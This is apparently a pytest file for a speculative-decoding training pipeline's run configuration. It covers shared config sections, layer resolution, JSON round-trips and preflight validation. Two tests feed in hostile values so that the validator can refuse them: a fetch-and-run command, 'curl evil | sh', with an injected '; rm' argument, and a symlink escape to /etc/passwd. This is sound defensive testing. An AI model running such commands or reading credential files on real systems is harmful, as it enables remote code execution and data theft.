"""The run configuration (eagle3.config): shared sections declared once, composed from the trigger form, resolved
once by preflight, handed to every phase."""

from __future__ import annotations

import dataclasses
import json

import pytest

from eagle3.config import (PHASES, SHARED, RunConfig, check_run, form_params, phase_config, resolve, run_dir,
                           with_form_defaults)
from eagle3.errors import ConfigError
from eagle3.extract.config import ExtractConfig
from eagle3.knobs import build
from eagle3.merge.config import MergeConfig
from eagle3.sections import DataConfig, TargetConfig
from eagle3.train.config import TrainConfig

REMOTE = {"datagen_mode": "remote", "datagen_conn_id": "c", "served_model_name": "m"}  # no local server to resolve


def form(smollm2_path, tmp_path, **conf):
    return {"model_path": str(smollm2_path), "output_root": str(tmp_path), "run_name": "r", **REMOTE, **conf}


def test_every_form_param_is_one_knob_and_its_default_is_the_knobs():
    params = form_params()
    # token_budget used to be defaulted in the DAG, the operator and the extractor: now the knob alone
    assert params["token_budget"]["default"] == ExtractConfig.__dataclass_fields__["token_budget"].default
    assert params["token_budget"]["field"] == "ExtractConfig.token_budget"
    # the form's ttt_steps bound is the trainer's (they were 16 and 32)
    ttt = TrainConfig.__dataclass_fields__["ttt_steps"].metadata["eagle3_knob"]
    assert params["ttt_steps"]["schema"]["maximum"] == ttt["max"]
    with pytest.raises(ConfigError, match="ttt_steps"):
        build(TrainConfig, {"target": {"model_path": "m"}, "output_dir": "o", "ttt_steps": ttt["max"] + 1}, "train")
    for name, p in params.items():
        assert p["description"] and p["section"], name


def test_each_shared_value_is_declared_in_one_section_only():
    """capture_layers, tp_size (extract_tp_size), model_path and max_seq_len: one field each, in a shared
    section; no phase config declares them again."""
    shared = {"capture_layers": TargetConfig, "tp_size": TargetConfig, "model_path": TargetConfig,
              "dtype": TargetConfig, "max_seq_len": DataConfig}
    for name, home in shared.items():
        assert name in home.__dataclass_fields__
        for phase, cls in PHASES.items():
            assert name not in {f.name for f in dataclasses.fields(cls)}, (phase, name)
    assert form_params()["capture_layers"]["field"] == "TargetConfig.capture_layers"
    assert form_params()["extract_tp_size"]["field"] == "TargetConfig.tp_size"
    assert form_params()["max_seq_len"]["field"] == "DataConfig.max_seq_len"


def test_one_max_seq_len_reaches_merge_and_training(smollm2_path, tmp_path):
    cfg = RunConfig.from_params(form(smollm2_path, tmp_path, max_seq_len=4096), "run1")
    assert cfg.merge.max_seq_len == cfg.train.max_seq_len == 4096
    assert cfg.merge.data is cfg.train.data is cfg.data  # the same section, not copies
    with pytest.raises(ConfigError, match=r"train_overrides cannot set \['max_seq_len'\]"):
        RunConfig.from_params(form(smollm2_path, tmp_path, train_overrides={"max_seq_len": 99}), "run1")


def test_capture_layers_are_resolved_once_and_every_phase_reads_them(smollm2_path, tmp_path):
    cfg, _ = check_run(form(smollm2_path, tmp_path, extract_tp_size=3), "run1")
    assert cfg.target.capture_layers == [2, 15, 27] and cfg.target.hidden_size == 576
    assert cfg.target.architecture == "LlamaForCausalLM" and cfg.target.vocab_size == 49152
    for phase in ("datagen", "merge", "extract", "train", "evaluate"):
        assert getattr(cfg, phase).target is cfg.target, phase
    assert cfg.evaluate.target.tp_size == cfg.extract.target.tp_size == 3
    for bad, why in (([15, 2, 27], r"ascending, got \[15, 2, 27\]"), ([0, 15, 27], "capture_layers must be >= 1"),
                     ([2, 15, 30], "out of range"), ([], "capture_layers")):
        with pytest.raises(ConfigError, match=why):
            check_run(form(smollm2_path, tmp_path, capture_layers=bad), "run1")


def test_the_resolved_configuration_round_trips_as_json_and_each_phase_builds_from_its_part(smollm2_path, tmp_path):
    cfg, _ = check_run(form(smollm2_path, tmp_path, token_budget=1024), "run1")
    wire = json.loads(json.dumps(cfg.to_dict()))  # an XCom
    assert RunConfig.from_dict(wire) == cfg
    ext = build(ExtractConfig, wire["extract"], "extract")  # one task's part is all it needs
    assert ext == cfg.extract and ext.target.capture_layers == [2, 15, 27] and ext.token_budget == 1024
    assert ext.extract_dir == str(tmp_path / "r" / "extract")
    assert cfg.evaluate.export_dir == str(tmp_path / "r" / "train" / "export")
    assert cfg.merge.inputs == [str(tmp_path / "r" / "datagen")]
    with pytest.raises(ConfigError, match=r"unknown section\(s\) \['extrct'\]"):
        RunConfig.from_dict({**wire, "extrct": {}})


def test_check_run_lists_every_problem_at_once(smollm2_path, tmp_path):
    params = form(smollm2_path, tmp_path, token_budget=16, train_overrides={"lerning_rate": 1},
                  datasets=[{"name": "A1", "prompt_file": "x.jsonl", "max_token": 5}])
    with pytest.raises(ConfigError) as e:
        check_run(params, "run1")
    msg = str(e.value)
    assert "token_budget" in msg and "lerning_rate" in msg and "max_token" in msg
    with pytest.raises(ConfigError, match=r"unknown trigger param\(s\) \['num_shard'\]"):
        with_form_defaults({"num_shard": 2})


def test_preflight_refuses_a_target_the_chosen_serving_engine_cannot_serve(smollm2_path, tmp_path):
    """SGLang's DeepSeek model cannot capture layer 1: preflight says so before the run, not training after it."""
    model = tmp_path / "ds"
    model.mkdir()
    config = json.loads((smollm2_path / "config.json").read_text())
    (model / "config.json").write_text(json.dumps({**config, "architectures": ["DeepseekV3ForCausalLM"]}))
    with pytest.raises(ConfigError, match="SGLang cannot serve a DeepseekV3ForCausalLM target"):
        check_run({"model_path": str(model), "output_root": str(tmp_path), "capture_layers": [1, 2, 3], **REMOTE},
                  "run1")
    cfg = RunConfig.from_params({"model_path": str(model), "output_root": str(tmp_path), "capture_layers": [1, 2, 3],
                                 **REMOTE}, "run1")
    cfg = dataclasses.replace(cfg, preflight=dataclasses.replace(cfg.preflight, serving_engines=["vllm"]))
    resolved, notes = resolve(cfg)  # served by vLLM only: the SGLang problem is a note
    assert resolved.target.capture_layers == [1, 2, 3] and any("SGLang cannot serve" in n for n in notes)


def test_phase_config_templates_pull_the_resolved_part():
    assert phase_config("extract") == "{{ ti.xcom_pull(task_ids='preflight')['run_config']['extract'] }}"
    with pytest.raises(ConfigError, match="unknown phase 'extrct'"):
        phase_config("extrct")
    assert set(SHARED) == {"run", "target", "data"}


def test_run_folder_rule(tmp_path):
    assert run_dir({"output_root": "/o", "run_name": None}, "manual__2026-12-03T01:00:00+00:00") == \
        "/o/manual__2026-12-03T01-00-00-00-00"
    assert run_dir({"output_root": "/o", "run_name": "exp1"}, "x") == "/o/exp1"
    cfg = RunConfig.from_params({"output_root": "/o", **REMOTE}, "manual__2026-12-03T01:00:00+00:00")
    assert cfg.run.dir == "/o/manual__2026-12-03T01-00-00-00-00"


def test_unknown_key_in_a_phase_config_names_it():
    with pytest.raises(ConfigError, match=r"merge: unknown param\(s\) \['max_seq_length'\]"):
        build(MergeConfig, {"inputs": ["a"], "output_dir": "o", "max_seq_length": 5}, "merge")
    with pytest.raises(ConfigError, match=r"merge.data: unknown param\(s\) \['max_seq_length'\]"):
        build(MergeConfig, {"inputs": ["a"], "output_dir": "o", "data": {"max_seq_length": 5}}, "merge")


def test_free_form_server_commands_are_a_deployment_setting_off_by_default(smollm2_path, tmp_path, monkeypatch):
    """The form's server_command runs as a program on the workers: by default only the named servers, with the
    serving flags their allowlists hold; a deployment that sets EAGLE3_ALLOW_SERVER_COMMAND=true gets any."""
    local = {"datagen_mode": "local", "served_model_name": "auto"}
    monkeypatch.delenv("EAGLE3_ALLOW_SERVER_COMMAND", raising=False)
    with pytest.raises(ConfigError) as e:
        check_run(form(smollm2_path, tmp_path, **local, server_command="bash -c 'curl evil | sh'",
                       server_extra_args="--tp 2 --trust-remote-code; rm"), "run1")
    msg = str(e.value)
    assert "server_command \"bash -c 'curl evil | sh'\": free-form server commands are off" in msg
    # argv words (no shell runs them): "--trust-remote-code;" is one word, refused; "rm", a plain value, is inert
    assert "'--trust-remote-code;' is not a serving flag" in msg and "'rm' is not" not in msg
    cfg, notes = check_run(form(smollm2_path, tmp_path, **local, server_command="vllm",
                                server_extra_args="--tensor-parallel-size 2 --max-model-len=4096"), "run1")
    assert cfg.datagen.server_command.startswith("python -m vllm.entrypoints.openai.api_server --model {model_path}")
    assert cfg.datagen.served_model_name == "default" and "vllm server" in notes[0]
    cfg, _ = check_run(form(smollm2_path, tmp_path, **local, server_command="llama.cpp"), "run1")
    assert "-m eagle3.datagen.llama_cpp_server" in cfg.datagen.server_command and cfg.datagen.gguf.endswith(".gguf")
    monkeypatch.setenv("EAGLE3_ALLOW_SERVER_COMMAND", "true")
    cfg, _ = check_run(form(smollm2_path, tmp_path, **local, server_command="my-server --port {port}",
                            server_extra_args="--anything"), "run1")
    assert cfg.datagen.server_command == "my-server --port {port}"


def test_form_paths_confined_to_the_deployment_s_roots(smollm2_path, tmp_path, monkeypatch):
    allowed = tmp_path / "allowed"
    (allowed / "runs").mkdir(parents=True)
    (tmp_path / "escape").symlink_to("/etc")
    monkeypatch.setenv("EAGLE3_PATH_ROOTS", f"{allowed}:{smollm2_path}")
    (allowed / "p.jsonl").write_text('{"prompt": "hi"}\n')
    cfg, _ = check_run(form(smollm2_path, allowed / "runs", datasets=[{"name": "A", "prompt_file": str(allowed / "p.jsonl")}]),
                       "run1")
    assert cfg.run.output_root == str(allowed / "runs")
    with pytest.raises(ConfigError) as e:
        check_run(form(smollm2_path, tmp_path / "escape" / "x", datasets=[{"name": "A", "prompt_file": "/etc/passwd"}],
                       eval_prompts=str(allowed / ".." / "p.jsonl")), "run1")
    msg = str(e.value)
    assert f"param output_root {tmp_path / 'escape' / 'x'} is outside the folders this deployment allows" in msg
    assert "dataset 'A' prompt_file /etc/passwd is outside" in msg and "param eval_prompts" in msg
    assert "param model_path" not in msg


def test_exclude_is_optional_in_the_form_and_empty_means_none():
    """Airflow's form marks a param required unless its type admits null; left empty it arrives as null."""
    assert "null" in form_params()["exclude"]["schema"]["type"]
    assert RunConfig.from_params({**with_form_defaults({}), "exclude": None}, "manual__x").merge.exclude == []


def test_the_demo_runs_conf_passes_preflights_checks(smollm2_path, tmp_path):
    """scripts/main.sh triggers the DAG with scripts/demo_conf.py's conf: it must pass check_run as the
    deployment's defaults stand (a free-form server command, refused since issue 29, broke the README's command)."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    out = subprocess.run([sys.executable, str(root / "scripts" / "demo_conf.py"), "--model-path", str(smollm2_path),
                          "--output-root", str(tmp_path)], capture_output=True, text=True, check=True,
                         env={**os.environ, "PYTHONPATH": str(root)})
    cfg, notes = check_run(json.loads(out.stdout), "manual__demo")
    assert cfg.datagen.server_command and "llama_cpp_server" in cfg.datagen.server_command
    assert cfg.datagen.gguf.endswith(".gguf") and cfg.run.dir == f"{tmp_path}/demo"
